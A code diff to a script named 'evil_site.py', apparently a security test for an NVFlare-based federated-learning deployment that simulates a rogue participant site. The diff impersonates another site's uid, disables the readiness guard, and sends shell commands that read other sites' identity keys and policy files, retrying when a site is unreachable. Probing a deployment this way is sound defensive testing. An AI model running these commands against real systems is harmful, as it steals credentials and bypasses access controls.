@@ -1,4 +1,4 @@
-"""`python evil_site.py HOME OUT TARGET...`: a kit's process in the hands of somebody who asks others for too much.
+"""`python evil_site.py HOME NAME OUT TARGET...`: a kit's process in the hands of somebody who asks others for too much.
 
 What he is answered goes to OUT, one JSON a line.
 """
@@ -19,7 +19,7 @@ from nvflare.apis.event_type import EventType
 from pbmvfl.deploy.home import Home
 from pbmvfl.deploy.nvflare import keeper, readiness
 
-HOME, OUT, TARGETS = Home.at(sys.argv[1]), Path(sys.argv[2]), sys.argv[3:]
+HOME, NAME, OUT, TARGETS = Home.at(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), sys.argv[4:]
 QUESTIONS = ("cat ../policy.toml", "cat ../identity.key", "ls -R ..")
 
 
@@ -41,12 +41,16 @@ def attack(cell: Any) -> None:
         note(target="", topic="control", code="", answer=str(own.body))
         for target in TARGETS:
             for asked in QUESTIONS:
-                request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
-                reply = cell.send_request(
-                    target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=15.0
-                )
+                for _ in range(120):  # a site that was cut off a moment ago comes back
+                    request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
+                    reply = cell.send_request(
+                        target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=15.0
+                    )
+                    code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
+                    if code not in ("target_unreachable", "comm_error", "timeout"):
+                        break
+                    time.sleep(0.5)
                 answer = getattr(reply.payload, "body", reply.payload)
-                code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
                 note(target=target, topic=asked, code=code, answer=str(answer))
         note(target="", topic="end", code="", answer="")
 
@@ -65,7 +69,7 @@ def handle(_: Any, event_type: str, fl_ctx: Any) -> None:
 
 readiness.Readiness.handle_event = handle  # type: ignore[method-assign]
 readiness.guard.install = lambda parties: None  # type: ignore[assignment]  # noqa: ARG005
-command = keeper.command(HOME)
+command = [each.replace(f"uid={HOME.name}", f"uid={NAME}") for each in keeper.command(HOME)]
 at = command.index("-m")
 sys.argv = command[at + 1 :]
 os.chdir(HOME.kit)
